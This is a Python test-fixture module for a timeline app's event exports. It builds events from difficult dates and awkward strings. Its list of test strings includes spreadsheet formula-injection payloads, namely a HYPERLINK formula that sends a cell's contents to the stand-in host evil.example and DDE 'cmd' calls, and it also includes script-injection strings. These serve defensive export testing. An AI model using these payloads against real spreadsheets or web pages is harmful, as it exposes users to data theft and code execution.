"""Events that are hard to write down: dates of every kind, words that formats take for their own."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from timeline_app.domain.correction import EventKey
from timeline_app.domain.edtf import parse_edtf
from timeline_app.domain.extraction import EventKind, ParticipantKind
from timeline_app.domain.period import Granularity, Period
from timeline_app.exports.event import Citation, Evidence, ExportedEvent, Heading, sha256

WORDS = (
    "Plain words.",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1 for the plan",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\t=1+1",
    "＝1+1",
    "'=1+1",
    "''",
    'He said "no, never"; then; left, at once',
    "two lines\nof one sentence",
    "a lone return\r and \r\n a pair",
    "אמר השר: \u200fשלום, 5 ב-3\u200e and عربى",
    "😀 thanked the crews 🧑‍🚒",
    "# no heading, *not* _so_ `code` [link](javascript:alert(1)) <b>bold</b> & &amp; \\ | ~",
    "<script>alert(1)</script>\n</blockquote></section>",
    "1. not a list\n- nor this\n> nor this\n    nor code",
    "BEGIN:VEVENT\\, x; y",
    "ends with a backslash \\",
    "word " * 400,
)
DATES = (
    "2023-02-14", "2023-02", "2023", "199X", "19XX", "-0599", "-0043-03-15", "0000", "Y12023", "2014/..", "../1975-06",
    "1850~", "2021-22", "2021-34", "2021-41", "2023-02-14T10", "2023-02-14T10:30", "2023-02-14T10:30:15",
    "2023-02-13/2023-02-15", "2014/2015-03", "1850~/1860~", "9999-12-31", "0001",
)  # fmt: skip


def periods() -> list[Period]:
    """Periods of every granularity, open and approximate ones among them."""
    week = Period.of_day(19_401, 7)
    return [
        *map(parse_edtf, DATES),
        Period(week.start, week.end, Granularity.WEEK),
        Period(19_401 * 86_400 + 6 * 3600, 19_401 * 86_400 + 12 * 3600, Granularity.PART_OF_DAY, approximate=True),
    ]


def make_event(
    number: int = 0, words: str = "Plain words.", period: Period | None = None, **fields: object
) -> ExportedEvent:
    """Return an event whose every text is `words`."""
    values: dict[str, object] = {
        "key": EventKey(sha256(f"article {number}"), "0123456789abcdef", number),
        "title": words,
        "kind": tuple(EventKind)[number % 3],
        "period": period or Period.of_date(2023, 2, 14),
        "article_period": None if number % 2 else Period.of_date(2023, 2),
        "stated": words,
        "explanation": words,
        "assumed": number % 2 == 0,
        "confidence": 1 / (number + 1),
        "participants": ((words, ParticipantKind.PERSON), ("a; b (c)", ParticipantKind.PLACE)),
        "citation": Citation(words, words, words, Period.of_date(2023, 2, 14), "https://example.org/?a=1&b=2", "en"),
        "evidence": Evidence(f"/cases/`a` #{number}.txt#3", words, (120, 120 + len(words)), sha256(words)),
        "tags": tuple(tag for tag in (words, "a; b (c)") if tag)[: number % 3],
        "note": words,
        "starred": number % 2 == 1,
    }
    return ExportedEvent(**{**values, **fields})  # type: ignore[arg-type]


@pytest.fixture
def heading() -> Heading:
    return Heading("Case <one> & *two*", 3, 2, datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC))


@pytest.fixture(scope="session")
def hard_events() -> list[ExportedEvent]:
    """One event for each hard text and each hard date."""
    dates = periods()
    count = max(len(WORDS), len(dates))
    return [make_event(n, WORDS[n % len(WORDS)], dates[n % len(dates)]) for n in range(count)]
